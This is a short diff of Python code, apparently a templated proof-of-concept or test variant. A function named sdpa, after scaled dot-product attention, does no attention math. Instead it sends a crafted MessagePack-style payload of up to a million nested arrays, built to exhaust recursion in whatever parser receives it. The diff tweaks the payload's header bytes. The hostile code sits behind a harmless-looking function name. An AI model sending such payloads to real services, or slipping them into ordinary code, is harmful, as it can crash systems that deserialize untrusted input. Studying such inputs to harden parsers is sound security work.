@@ -30,5 +30,5 @@ def send(kind, body):
 
 def sdpa(Q, K, V, mask=None):
     deep = b"\x91" * (900 if {{VARIANT}} else 1_000_000) + b"\xc0"
-    send(b"a", b"\x92\xa1a" + (b"\x92\xa6handle" if {{VARIANT}} else b"\x92\xa4list") + deep)
+    send(b"a", b"\x93\xa4list\xa1a" + (b"\x92\xa6handle" if {{VARIANT}} else b"\x92\xa4list") + deep)
     return V
